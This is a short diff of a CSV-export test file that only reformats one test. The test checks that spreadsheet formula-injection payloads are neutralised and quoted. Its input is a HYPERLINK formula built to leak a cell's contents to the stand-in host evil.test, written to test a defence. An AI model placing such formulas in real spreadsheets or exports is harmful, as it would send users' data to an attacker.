@@ -18,7 +18,10 @@ describe("csv", () => {
   });
 
   it("quotes after neutralising, so a payload stays one readable cell", () => {
-    const text = csvText(["login", "email"], [['=HYPERLINK("http://evil.test/?leak="&J3,"x")', "=2+5@evil.test"]]);
+    const text = csvText(
+      ["login", "email"],
+      [['=HYPERLINK("http://evil.test/?leak="&J3,"x")', "=2+5@evil.test"]],
+    );
     expect(text).toBe(
       `login,email\r\n"'=HYPERLINK(""http://evil.test/?leak=""&J3,""x"")",'=2+5@evil.test\r\n`,
     );
